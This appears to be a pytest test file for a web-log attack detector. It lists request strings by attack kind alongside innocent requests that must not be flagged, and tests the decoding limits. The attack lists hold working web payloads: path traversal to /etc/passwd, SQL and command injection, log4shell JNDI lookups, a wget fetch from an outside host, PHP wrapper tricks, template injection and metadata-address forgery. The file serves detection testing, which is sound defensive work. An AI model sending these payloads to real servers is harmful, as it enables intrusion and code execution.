"""Payloads are known however they are written; people's words are not payloads."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rootout.weblog.payload import KINDS, decoded, kinds
from rootout.weblog.table import HEADER_MARK, MARK

ATTACKS = {
    "traversal": [
        "/download?f=../../../../etc/passwd",
        "/download?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/download?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/a?f=..%u2215..%u005c..%u005cwindows%u005cwin.ini",
        "/view?file=/etc/passwd",
        "/x?p=/proc/self/environ",
        "/..;/manager/html",
    ],
    "SQL injection": [
        "/p?id=1%27%20union%20select%20null,null--",
        "/p?id=1+UNION+ALL+SELECT+1,2,3",
        "/p?id=1'/**/UNION/**/SELECT/**/1",
        "/p?id=1%27%20or%20%271%27=%271",
        "/p?id=1%20and%20sleep(5)",
        "/p?id=1' and extractvalue(1,concat(0x7e,version()))",
        "/p?id=-1;waitfor delay '0:0:5'--",
        "/p?id=1) order by 10-- ",
        "/p?q=x';drop table users--",
        r"/p?id=1\x27 or 1=1--",
    ],
    "command injection": [
        "/ping?host=127.0.0.1;id",
        "/ping?host=127.0.0.1%7Ccat%20/etc/hosts",
        "/ping?host=$(whoami)",
        "/ping?host=%60id%60",
        "/up.php?cmd=id",
        "/up.php?cmd=wget+http://198.51.100.7/x",
        "/x?a=%0aid",
        "/x?a=1;cat${IFS}/x",
    ],
    "shellshock": ["() { :;}; /bin/bash -c id", "()%20{%20:;%20};%20echo"],
    "log4shell": [
        "/?x=${jndi:ldap://198.51.100.7/a}",
        "/?x=%24%7Bjndi:ldap://198.51.100.7/a%7D",
        "/?x=${${lower:j}ndi:ldap://198.51.100.7/a}",
        "/?x=${${::-j}${::-n}di:x}",
    ],
    "PHP wrapper": [
        "/?page=php://filter/convert.base64-encode/resource=index",
        "/?page=data:text/plain;base64,PD9waHA=",
        "/?page=expect://id",
        "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
    ],
    "code injection": [
        "/?x=<?php+system(1);",
        "/?s=index/think%5Capp/invokefunction&function=call_user_func_array",
    ],
    "template injection": [
        "/?name={{7*7}}",
        "/?name=%24%7B7*7%7D",
        "/?name={{''.__class__.__mro__}}",
        "/?class.module.classLoader.resources=1",
    ],
    "script injection": ["/?q=<script>alert(1)</script>", '/?q="onerror=alert(1)'],
    "address forgery": ["/fetch?url=http://169.254.169.254/latest", "/fetch?url=file:///x"],
    "known exploit": [
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/cgi-bin/.%2e/.%2e/bin/sh",
        "/boaform/admin/formLogin",
        "/actuator/gateway/routes/x",
    ],
}
INNOCENT = [
    "/",
    "/search?q=how+to+use+union+select+in+sql",
    "/search?q=O%27Brien",
    "/search?q=rock+%27n%27+roll",
    "/search?q=select+a+plan+or+1+of+2",
    "/search?q=cats+and+dogs",
    "/search?q=it's+1+or+2+cats",
    "/search?q=1+or+2",
    "/search?q=100%25+cotton",
    "/search?q=a;b",
    "/search?q=fish+%26+chips",
    "/docs/etc/passwd.html",
    "/blog/log4shell-jndi-explained",
    "/blog/what-is-etc-passwd",
    "/a/../b.css",
    "/oauth?redirect_uri=https://example.org/callback",
    "/share?u=http://example.org/?a=1",
    "/api?filter={%22a%22:1}",
    "/api?filter[name]=x&sort=-id",
    "/wiki/C%2B%2B_(language)",
    "/img?src=data.png",
    "/?price=%24%7Bprice%7D",
    "/cmd?command=status",
    "/shop?order=by+price",
    "/products?sort=id;desc",
    "/q?text=sleep+(well)",
    "/?utm_source=a|b",
    "/run?id=5",
    "/users/id",
    "/static/system.js",
    "/%E2%82%AC",
]
ALL = [(name, text) for name, texts in ATTACKS.items() for text in texts]


@pytest.mark.parametrize(("name", "text"), ALL)
def test_an_attack_is_known(name: str, text: str) -> None:
    assert name in kinds(text)


@pytest.mark.parametrize("text", INNOCENT)
def test_what_people_ask_for_is_no_attack(text: str) -> None:
    assert kinds(text) == ()


def test_every_kind_has_an_example() -> None:
    assert [kind.name for kind in KINDS] == list(ATTACKS)


@pytest.mark.parametrize(("name", "text"), ALL)
def test_the_first_look_lets_every_attack_through(name: str, text: str) -> None:
    assert re.search(MARK, text) or re.search(HEADER_MARK, text)


def test_decoding_ends() -> None:
    assert decoded("%" + "25" * 10 + "41") == "%" + "25" * 7 + "41"
    assert decoded("a%00b") == "ab"
    assert len(decoded("x" * 10**6)) < 20000


@given(st.text())
def test_any_text_survives(text: str) -> None:
    kinds(text)
    kinds(text.replace("a", "%").replace("b", "'"))
